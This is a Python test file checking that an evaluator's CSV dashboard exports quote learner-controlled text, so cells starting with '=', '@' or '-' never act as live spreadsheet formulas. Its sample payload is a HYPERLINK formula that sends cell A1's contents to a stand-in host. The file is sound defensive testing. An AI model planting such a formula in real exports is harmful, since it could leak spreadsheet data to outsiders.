"""CSV exports open safely in a spreadsheet: learner-influenced text is never a live formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

from evaluator.cohort.dashboard import spreadsheet_safe, write_dashboard
from evaluator.cohort.view import build_view
from tests.cohort_generator import LEVELS, NOW, generate

FORMULA = '=HYPERLINK("https://example.invalid/?"&A1,"grade")'


def test_formula_cells_are_quoted_and_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {"learner": [FORMULA, "@SUM(1)", "-2+3", "alice"], "score": [-1.5, 2.0, 3.0, 4.0]}
    )
    safe = spreadsheet_safe(frame)
    assert safe["learner"].tolist() == [f"'{FORMULA}", "'@SUM(1)", "'-2+3", "alice"]
    assert safe["score"].tolist() == [-1.5, 2.0, 3.0, 4.0]
    assert frame["learner"][0] == FORMULA  # the view itself is left as it was


def test_a_learner_named_like_a_formula_is_quoted_in_every_export(tmp_path: Path) -> None:
    frames = generate(learners=12).frames()
    evaluations = frames.evaluations
    first = evaluations["learner"].iloc[0]
    evaluations["learner"] = evaluations["learner"].cat.rename_categories({first: FORMULA})
    view = build_view(
        frames, levels=LEVELS, cohort=None, now=NOW, similarity=[],
        similarity_threshold=0.6,
    )  # fmt: skip
    write_dashboard(view, tmp_path)
    with (tmp_path / "lms-results.csv").open(newline="", encoding="utf-8") as handle:
        learners = {row["learner"] for row in csv.DictReader(handle)}
    assert f"'{FORMULA}" in learners
    for export in tmp_path.glob("*.csv"):
        for row in csv.reader(export.open(newline="", encoding="utf-8")):
            assert not any(cell.startswith("=") for cell in row), export.name
